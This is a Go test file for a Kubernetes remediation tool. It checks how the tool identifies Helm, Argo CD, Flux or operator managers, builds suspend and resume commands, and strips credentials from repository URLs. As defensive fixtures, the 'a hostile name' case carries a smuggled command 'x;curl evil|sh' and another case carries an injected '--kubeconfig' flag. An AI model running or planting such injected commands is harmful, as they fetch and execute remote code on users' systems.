// Copyright 2026 The Pullmedic Authors
// SPDX-License-Identifier: Apache-2.0

package mend

import (
	"net/http"
	"net/http/httptest"
	"os/exec"
	"slices"
	"strings"
	"testing"

	"k8s.io/apimachinery/pkg/apis/meta/v1/unstructured"
	"k8s.io/client-go/rest"

	"github.com/pullmedic/pullmedic/evidence"
	"github.com/pullmedic/pullmedic/internal/cluster"
	"github.com/pullmedic/pullmedic/internal/edit"
	"github.com/pullmedic/pullmedic/internal/remedy"
)

// around is a mender over an API server that has these objects, by path; nothing
// else may be read, or if open is set is there.
func around(t *testing.T, open bool, objects map[string]string) *Mender {
	t.Helper()
	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "application/json")
		if text, ok := objects[r.URL.Path]; ok {
			_, _ = w.Write([]byte(text))
			return
		}
		if open {
			w.WriteHeader(http.StatusNotFound)
			_, _ = w.Write([]byte(`{"kind":"Status","apiVersion":"v1","status":"Failure","reason":"NotFound","code":404}`))
			return
		}
		w.WriteHeader(http.StatusForbidden)
		_, _ = w.Write([]byte(`{"kind":"Status","apiVersion":"v1","status":"Failure","reason":"Forbidden","message":"User \"x\" cannot","code":403}`))
	}))
	t.Cleanup(server.Close)
	writes, err := edit.New(&rest.Config{Host: server.URL}, edit.Options{})
	if err != nil {
		t.Fatal(err)
	}
	asks, err := cluster.New(&rest.Config{Host: server.URL}, cluster.Options{})
	if err != nil {
		t.Fatal(err)
	}
	return New(Options{Edit: writes, Cluster: asks})
}

const (
	application = `{"apiVersion":"argoproj.io/v1alpha1","kind":"Application","metadata":{"name":"shop-prod"},"spec":{
		"source":{"repoURL":"https://robot:canary@git.acme.example/deploy.git?token=canary","path":"apps/api","targetRevision":"main"},"syncPolicy":{"automated":{"selfHeal":true}}}}`
	kustomization = `{"apiVersion":"kustomize.toolkit.fluxcd.io/v1","kind":"Kustomization","metadata":{"name":"apps"},"spec":{"path":"./clusters/prod","interval":"10m0s","sourceRef":{"kind":"GitRepository","name":"deploy"}}}`
	gitRepository = `{"apiVersion":"source.toolkit.fluxcd.io/v1","kind":"GitRepository","metadata":{"name":"deploy"},"spec":{"url":"ssh://git@git.acme.example/deploy"}}`
	helmRelease   = `{"apiVersion":"helm.toolkit.fluxcd.io/v2","kind":"HelmRelease","metadata":{"name":"api"},"spec":{"interval":"5m","chart":{"spec":{"chart":"api","version":"1.4.0","sourceRef":{"kind":"HelmRepository","name":"acme"}}},"driftDetection":{"mode":"enabled"}}}`
)

func TestWhereAnObjectComesFrom(t *testing.T) {
	argo := map[string]string{"/apis/argoproj.io/v1alpha1/namespaces/argocd/applications/shop-prod": application}
	flux := map[string]string{
		"/apis/kustomize.toolkit.fluxcd.io/v1/namespaces/flux-system/kustomizations/apps": kustomization,
		"/apis/source.toolkit.fluxcd.io/v1/namespaces/flux-system/gitrepositories/deploy": gitRepository,
		"/apis/helm.toolkit.fluxcd.io/v2/namespaces/shop/helmreleases/api":                helmRelease,
	}
	for name, c := range map[string]struct {
		objects map[string]string
		labels  map[string]string
		manager evidence.Manager
		above   evidence.Object
		source  []string
		back    string
		lasting []string // commands
		resume  []string
		open    bool   // what is not there is not forbidden
		missed  string // of what could not be read
	}{
		"by nobody": {},
		"Helm": {manager: evidence.Manager{Tool: "Helm", Name: "shop/api"}, labels: map[string]string{"helm.sh/chart": "api-1.4.0"},
			source: []string{"Helm release api in namespace shop", "chart api-1.4.0"}, back: "the next helm upgrade sets back what is changed here", lasting: []string{"helm get values api -n shop"},
			missed: "you may not list secrets in namespace shop, so that the revisions of Helm release api are not known (list secrets in namespace shop)"},
		"Argo CD, with self-heal": {objects: argo, manager: evidence.Manager{Tool: "Argo CD", Name: "shop-prod"},
			source: []string{"Argo CD application shop-prod", "from https://git.acme.example/deploy.git, path apps/api, revision main"}, back: "Argo CD sets back what is changed here within seconds, as self-heal is on",
			lasting: []string{"argocd app set shop-prod --sync-policy none"}, resume: []string{"argocd app set shop-prod --sync-policy automated --self-heal"}},
		"Argo CD, in a namespace of a team's own": {objects: map[string]string{"/apis/argoproj.io/v1alpha1/namespaces/team-a/applications/shop": `{"apiVersion":"argoproj.io/v1alpha1","kind":"Application","spec":{"syncPolicy":{"automated":{"prune":true}}}}`},
			manager: evidence.Manager{Tool: "Argo CD", Name: "team-a_shop"},
			source:  []string{"Argo CD application team-a_shop"}, back: "Argo CD sets back what is changed here with the next commit, as it syncs by itself",
			lasting: []string{"argocd app set team-a/shop --sync-policy none"}, resume: []string{"argocd app set team-a/shop --sync-policy automated --auto-prune"}},
		"Argo CD, told to leave the application alone": {objects: map[string]string{"/apis/argoproj.io/v1alpha1/namespaces/argocd/applications/shop": `{"apiVersion":"argoproj.io/v1alpha1","kind":"Application","metadata":{"annotations":{"argocd.argoproj.io/skip-reconcile":"true"}},"spec":{}}`},
			manager: evidence.Manager{Tool: "Argo CD", Name: "shop"},
			source:  []string{"Argo CD application shop"}, back: "Argo CD sets back what is changed here once it looks after the application again (it is told to skip it now)"},
		"Argo CD of another cluster": {open: true, manager: evidence.Manager{Tool: "Argo CD", Name: "shop-prod"},
			source: []string{"Argo CD application shop-prod", "no such Application in this cluster"}, back: "Argo CD sets back what is changed here with its next sync, within seconds where self-heal is on",
			lasting: []string{"argocd app set shop-prod --sync-policy none"}, resume: []string{"argocd app set shop-prod --sync-policy automated"}},
		"Argo CD, whose application is garbage": {objects: map[string]string{"/apis/argoproj.io/v1alpha1/namespaces/argocd/applications/shop": `{"apiVersion":"argoproj.io/v1alpha1","kind":"Application","spec":{"source":"x","sources":[1,{"repoURL":7}],"syncPolicy":{"automated":"yes"}}}`},
			manager: evidence.Manager{Tool: "Argo CD", Name: "shop"},
			source:  []string{"Argo CD application shop"}, back: "Argo CD sets back what is changed here when somebody syncs the application"},
		"Argo CD, whose application may not be read": {missed: "you may not read application/shop-prod in namespace argocd (get applications.argoproj.io in namespace argocd)", manager: evidence.Manager{Tool: "Argo CD", Name: "shop-prod"},
			source: []string{"Argo CD application shop-prod"}, back: "Argo CD sets back what is changed here with its next sync, within seconds where self-heal is on",
			lasting: []string{"argocd app set shop-prod --sync-policy none"}, resume: []string{"argocd app set shop-prod --sync-policy automated"}},
		"Flux, a Kustomization": {objects: flux, manager: evidence.Manager{Tool: "Flux", Name: "flux-system/apps"},
			source:  []string{"Flux Kustomization apps in namespace flux-system", "path ./clusters/prod", "from GitRepository deploy in namespace flux-system (ssh://git.acme.example/deploy)"},
			back:    "Flux sets back what is changed here within 10m0s, its interval",
			lasting: []string{"flux suspend kustomization apps -n flux-system"}, resume: []string{"flux resume kustomization apps -n flux-system"}},
		"Flux, told to leave the object alone": {objects: flux, manager: evidence.Manager{Tool: "Flux", Name: "flux-system/apps"}, labels: map[string]string{"kustomize.toolkit.fluxcd.io/ssa": "IfNotPresent"},
			source:  []string{"Flux Kustomization apps in namespace flux-system", "path ./clusters/prod", "from GitRepository deploy in namespace flux-system (ssh://git.acme.example/deploy)"},
			back:    "Flux leaves the object alone, as it is marked, so that what is changed here stays",
			lasting: []string{"flux suspend kustomization apps -n flux-system"}, resume: []string{"flux resume kustomization apps -n flux-system"}},
		"Flux, a HelmRelease that is suspended, of a chart in a registry": {open: true, manager: evidence.Manager{Tool: "Flux", Name: "shop/web"}, labels: map[string]string{"helm.toolkit.fluxcd.io/name": "web"},
			objects: map[string]string{"/apis/helm.toolkit.fluxcd.io/v2/namespaces/shop/helmreleases/web": `{"apiVersion":"helm.toolkit.fluxcd.io/v2","kind":"HelmRelease","spec":{"suspend":true,"chartRef":{"kind":"OCIRepository","name":"charts"}}}`},
			source:  []string{"Flux HelmRelease web in namespace shop", "from OCIRepository charts in namespace shop"}, back: "Flux sets back what is changed here once it is resumed (it is suspended now)",
			lasting: []string{"flux suspend helmrelease web -n shop"}, resume: []string{"flux resume helmrelease web -n shop"}},
		"Flux, a HelmRelease": {missed: "you may not read helmrepository/acme in namespace shop (get helmrepositories.source.toolkit.fluxcd.io in namespace shop)", objects: flux, manager: evidence.Manager{Tool: "Flux", Name: "shop/api"}, labels: map[string]string{"helm.toolkit.fluxcd.io/name": "api", "helm.toolkit.fluxcd.io/namespace": "shop"},
			source: []string{"Flux HelmRelease api in namespace shop", "chart api 1.4.0", "from HelmRepository acme in namespace shop"}, back: "Flux sets back what is changed here within 5m0s, its interval",
			lasting: []string{"flux suspend helmrelease api -n shop"}, resume: []string{"flux resume helmrelease api -n shop"}},
		"an operator's object":                          {above: evidence.Object{Kind: "Kafka", Name: "orders"}, source: []string{"kafka/orders makes it"}, back: "the operator of kafka/orders may set back what is changed here", lasting: []string{"kubectl edit kafka orders -n shop"}},
		"an operator's object of a kind that is a flag": {above: evidence.Object{Kind: "--kubeconfig=/tmp/x", Name: "orders"}, source: []string{"--kubeconfig=/tmp/x/orders makes it"}, back: "the operator of --kubeconfig=/tmp/x/orders may set back what is changed here"},
		"a hostile name":                                {manager: evidence.Manager{Tool: "Argo CD", Name: "x;curl evil|sh"}, source: []string{"Argo CD application x;curl evil|sh"}, back: "Argo CD sets back what is changed here with its next sync, within seconds where self-heal is on"},
	} {
		t.Run(name, func(t *testing.T) {
			live := &unstructured.Unstructured{Object: map[string]any{"kind": "Deployment"}}
			live.SetLabels(c.labels)
			k := remedy.Case{Target: remedy.Target{Object: remedy.Object{Namespace: "shop", Name: "api"}, Manager: c.manager, Above: c.above}}
			around(t, c.open, c.objects).origin(t.Context(), live, &k)
			target, missed := k.Target, ""
			for _, g := range k.NotLookedAt {
				missed += g.Why + " (" + g.Needs + ")"
			}
			if missed != c.missed {
				t.Errorf("not looked at: %q, want %q", missed, c.missed)
			}
			if !slices.Equal(target.Source, c.source) || target.Back != c.back {
				t.Errorf("source %q, want %q; back %q, want %q", target.Source, c.source, target.Back, c.back)
			}
			commands := func(steps []remedy.Step) (all []string) {
				for _, s := range steps {
					all = append(all, s.Commands...)
				}
				return all
			}
			if got := commands(target.Lasting); !slices.Equal(got, c.lasting) {
				t.Errorf("lasting %q, want %q", got, c.lasting)
			}
			if got := commands(target.Resume); !slices.Equal(got, c.resume) {
				t.Errorf("resume %q, want %q", got, c.resume)
			}
			for _, s := range slices.Concat(target.Lasting, target.Resume) {
				if strings.Contains(s.What+s.Where, "canary") {
					t.Errorf("%q shows a login", s.What+s.Where)
				}
				for _, command := range s.Commands {
					if err := exec.CommandContext(t.Context(), "sh", "-n", "-c", command).Run(); err != nil {
						t.Errorf("no shell reads %q: %v", command, err)
					}
				}
			}
		})
	}
}

func TestHowManyPodsARolloutReplacesAtATime(t *testing.T) {
	for name, c := range map[string]struct {
		kind string
		spec map[string]any
		want string
	}{
		"a Deployment's default": {"Deployment", map[string]any{"strategy": map[string]any{"type": "RollingUpdate", "rollingUpdate": map[string]any{"maxUnavailable": "25%"}}}, "25 % at a time"},
		"a number":               {"Deployment", map[string]any{"strategy": map[string]any{"type": "RollingUpdate", "rollingUpdate": map[string]any{"maxUnavailable": int64(2)}}}, "2 at a time"},
		"none":                   {"Deployment", map[string]any{"strategy": map[string]any{"type": "RollingUpdate", "rollingUpdate": map[string]any{"maxUnavailable": int64(0)}}}, "none before another is ready"},
		"all":                    {"Deployment", map[string]any{"strategy": map[string]any{"type": "Recreate"}}, "all at once"},
		"a DaemonSet":            {"DaemonSet", map[string]any{"updateStrategy": map[string]any{"type": "RollingUpdate", "rollingUpdate": map[string]any{"maxUnavailable": int64(1)}}}, "1 at a time"},
		"one on deletion":        {"DaemonSet", map[string]any{"updateStrategy": map[string]any{"type": "OnDelete"}}, ""},
		"a StatefulSet":          {"StatefulSet", map[string]any{"updateStrategy": map[string]any{"type": "RollingUpdate"}}, "one at a time, the last first"},
		"a pod":                  {"Pod", nil, ""},
	} {
		if got := pace(&unstructured.Unstructured{Object: map[string]any{"kind": c.kind, "spec": c.spec}}); got != c.want {
			t.Errorf("%s: %q, want %q", name, got, c.want)
		}
	}
}

func TestAnAddressIsShownWithoutALogin(t *testing.T) {
	for address, want := range map[string]string{
		"https://git.example/a.git": "https://git.example/a.git", "https://me:canary@git.example/a?token=canary#canary": "https://git.example/a",
		"git@git.example:acme/a.git": "git.example:acme/a.git", "oci://ghcr.io/acme/charts": "oci://ghcr.io/acme/charts", "": "", "canary@": "",
		"https://me:can@ary%zz@git.example/a": "git.example/a", "https://git.example/%zz?token=canary": "https://git.example/%zz", "git.example/a?token=canary": "git.example/a",
	} {
		if got := bare(address); got != want {
			t.Errorf("%q is %q, want %q", address, got, want)
		}
	}
}

func TestOnePodIsSaidAsOne(t *testing.T) {
	for pods, want := range map[int]string{
		1: "1 failing pod is evicted; its owner makes a new one",
		2: "2 failing pods are evicted, one first; their owner makes new ones",
	} {
		if got := evicted(pods); got != want {
			t.Errorf("got %q, want %q", got, want)
		}
	}
}
